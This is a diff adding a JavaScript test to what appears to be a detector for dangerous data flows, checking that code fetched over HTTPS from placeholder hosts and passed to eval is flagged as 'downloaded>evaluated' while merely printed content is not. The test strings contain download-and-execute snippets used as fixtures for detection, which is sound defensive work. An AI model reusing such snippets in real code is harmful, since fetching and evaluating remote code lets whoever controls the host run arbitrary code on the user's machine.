@@ -60,6 +60,19 @@ describe('functions that are called again', () => {
       assert.deepEqual([...new Set(flowsOf(`${table} ${loop}`))], ['downloaded>run-as-command'], loop);
   });
 
+  it('settle it for everybody who asks, also where each follows where it is sent on to', () => {
+    const get = `function get(url) { return new Promise((done) => https.get(url, (res) => {
+      if (res.statusCode === 302) return done(get(res.headers.location));
+      const parts = []; res.on('data', (part) => parts.push(part)).on('end', () => done(Buffer.concat(parts))); })); }`;
+    for (const run of [
+      `get('https://list.invalid'); get('https://load.invalid').then((code) => eval(code.toString()));`,
+      `(async () => { await get('https://list.invalid'); eval((await get('https://load.invalid')).toString()); })();`,
+    ])
+      assert.deepEqual([...new Set(flowsOf(`${get} ${run}`))], ['downloaded>evaluated'], run);
+    const shown = `(async () => { await get('https://list.invalid'); console.log((await get('https://load.invalid')).toString()); })();`;
+    assert.deepEqual(flowsOf(`${get} ${shown}`), []);
+  });
+
   it('settle it with what is only shown', () => {
     const run = `async function run() { const page = await ask('https://note.invalid'); console.log((await ask(page.body)).body); } run();`;
     assert.deepEqual(flowsOf(`${ASK} ${run}`), []);
